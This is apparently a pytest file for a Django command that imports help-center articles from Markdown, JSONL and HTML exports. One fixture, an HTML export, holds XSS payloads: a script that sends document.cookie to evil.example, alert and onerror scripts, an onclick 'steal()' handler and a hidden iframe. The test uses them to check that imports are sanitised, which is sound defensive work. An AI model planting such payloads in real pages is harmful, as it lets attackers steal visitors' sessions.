"""`manage.py import_articles`: Markdown folders, JSONL and HTML exports, with a per-file report."""

from __future__ import annotations

import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from knowledge.models import Article
from knowledge.services import article_save


def _import(path, *args) -> tuple[str, str]:
    out, err = StringIO(), StringIO()
    call_command("import_articles", str(path), *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def _report(out: str) -> dict[str, str]:
    """{source: outcome} from the command's per-file lines."""
    rows = {}
    for line in out.splitlines():
        parts = line.split()
        if parts and parts[0] in ("created", "updated", "unchanged", "skipped"):
            rows[parts[1]] = parts[0]
    return rows


@pytest.mark.django_db
def test_markdown_folder_with_and_without_front_matter(tmp_path):
    (tmp_path / "reset-password.md").write_text(
        "---\ntitle: Reset your password\ncategory: account\nintents: [reset_password, login_issue]\n"
        "audience: internal\nlocale: pt-br\nstatus: draft\n---\n"
        "# Reset your password\n\nUse the *Forgot password* link.\n"
    )
    (tmp_path / "Shipping Times.md").write_text(
        "# Shipping times\n\n## Standard\n\nThree to five days.\n"
    )
    (tmp_path / ".DS_Store").write_bytes(b"\x00\x01")
    (tmp_path / "notes.txt").write_text("not an article")

    out, err = _import(tmp_path)

    reset = Article.objects.get(slug="reset-password")
    assert (reset.title, reset.category, reset.intents) == (
        "Reset your password",
        "account",
        ["reset_password", "login_issue"],
    )
    assert (reset.audience, reset.locale, reset.status) == ("internal", "pt-br", "draft")
    assert reset.body == "Use the *Forgot password* link."  # the title heading is not repeated
    shipping = Article.objects.get(slug="shipping-times")
    assert shipping.title == "Shipping times" and shipping.status == "published"
    assert [p.heading for p in shipping.passages.all()] == ["Standard"]
    assert shipping.versions.get().note == "Imported from Shipping Times.md"
    assert _report(out) == {
        "Shipping": "created",  # "Shipping Times.md" splits on the space
        "notes.txt": "skipped",
        "reset-password.md": "created",
    }
    assert "not a .md, .html or .jsonl file" in out
    assert "3/3" in err  # the progress bar reached the end
    assert "2 created, 0 updated, 0 unchanged, 1 skipped" in out


@pytest.mark.django_db
def test_jsonl_reports_created_updated_unchanged_and_skipped(tmp_path):
    article_save(slug="returns", title="Returns", body="30 days.", category="returns")
    article_save(slug="warranty", title="Warranty", body="One year.")
    rows = [
        {"slug": "returns", "title": "Returns", "body": "14 days now."},
        {"slug": "warranty", "title": "Warranty", "body": "One year."},
        {
            "slug": "gift-cards",
            "title": "Gift cards",
            "body": "Never expire.",
            "intents": ["gift_card"],
        },
        {"slug": "bad slug!", "title": "Bad", "body": "x"},
        {"slug": "no-body", "title": "Nothing", "body": ""},
        {"slug": "gift-cards", "title": "Again", "body": "Duplicate."},
    ]
    source = tmp_path / "kb.jsonl"
    source.write_text("\n".join(json.dumps(r) for r in rows) + "\n{not json\n")

    out, _ = _import(source, "--status", "draft")

    assert _report(out) == {
        "kb.jsonl:1": "updated",
        "kb.jsonl:2": "unchanged",
        "kb.jsonl:3": "created",
        "kb.jsonl:4": "skipped",
        "kb.jsonl:5": "skipped",
        "kb.jsonl:6": "skipped",
        "kb.jsonl:7": "skipped",
    }
    assert "may hold only letters" in out and "no body" in out
    assert "already imported from kb.jsonl:3" in out and "invalid JSON" in out
    returns = Article.objects.get(slug="returns")
    # Fields the line leaves out keep their value; existing articles keep their status.
    assert (returns.body, returns.category, returns.status) == (
        "14 days now.",
        "returns",
        "published",
    )
    assert returns.versions.count() == 2
    assert Article.objects.get(slug="warranty").versions.count() == 1
    gift = Article.objects.get(slug="gift-cards")
    assert (gift.status, gift.intents, gift.body) == ("draft", ["gift_card"], "Never expire.")


HOSTILE_EXPORT = """<!doctype html>
<html><head><title>Returns | Acme Help</title>
<script>document.location = "https://evil.example/?c=" + document.cookie</script>
<style>body { display: none }</style></head>
<body>
<nav><a href="/">Home</a> › Returns</nav>
<article>
  <h1>How to return an item</h1>
  <p>You can return <strong>any</strong> item
     within 30 days.</p>
  <script>alert("xss")</script>
  <h2>Steps</h2>
  <ol><li>Open your order</li><li onclick="steal()">Choose <b>Return</b></li></ol>
  <p>Quote &lt;b&gt; literally. <img src=x onerror="alert(2)"><iframe src="https://evil.example"></iframe></p>
</article>
<footer>© Acme</footer>
</body></html>
"""


@pytest.mark.django_db
def test_html_exports_become_safe_markdown(tmp_path, client):
    (tmp_path / "how-to-return.html").write_text(HOSTILE_EXPORT)
    (tmp_path / "title-only.htm").write_text(
        "<html><head><title>Gift cards</title></head><body><p>Never expire.</p></body></html>"
    )

    out, _ = _import(tmp_path)

    article = Article.objects.get(slug="how-to-return")
    assert article.title == "How to return an item"
    assert article.body == (
        "You can return **any** item within 30 days.\n\n"
        "## Steps\n\n"
        "- Open your order\n"
        "- Choose **Return**\n\n"
        "Quote <b> literally."
    )
    for hostile in (
        "evil.example",
        "alert",
        "cookie",
        "display: none",
        "onclick",
        "Home",
        "© Acme",
    ):
        assert hostile not in article.body
    assert Article.objects.get(slug="title-only").title == "Gift cards"
    assert _report(out) == {"how-to-return.html": "created", "title-only.htm": "created"}

    page = client.get("/help/how-to-return/").content.decode()
    assert (
        "<strong>any</strong>" in page
        and "&lt;b&gt; literally" in page
        and "<li>Open your order</li>" in page
    )


@pytest.mark.django_db
def test_reimporting_the_same_folder_changes_nothing(tmp_path):
    (tmp_path / "a.md").write_text("# A\n\nText.")
    _import(tmp_path)
    out, _ = _import(tmp_path)
    assert _report(out) == {"a.md": "unchanged"}
    assert Article.objects.get(slug="a").versions.count() == 1


@pytest.mark.django_db
def test_markdown_without_a_title_or_with_bad_front_matter_is_skipped(tmp_path):
    (tmp_path / "untitled.md").write_text("Just a paragraph.")
    (tmp_path / "broken.md").write_text("---\nthis is not yaml\n---\n# Broken\n\nText.")
    (tmp_path / "bad-audience.md").write_text("---\naudience: everyone\n---\n# X\n\nText.")
    out, _ = _import(tmp_path)
    assert _report(out) == {
        "bad-audience.md": "skipped",
        "broken.md": "skipped",
        "untitled.md": "skipped",
    }
    assert "no title" in out and "front matter" in out and "audience must be one of" in out
    assert not Article.objects.exists()


def test_a_missing_path_is_a_clear_error(tmp_path):
    with pytest.raises(CommandError, match="does not exist"):
        _import(tmp_path / "nope")
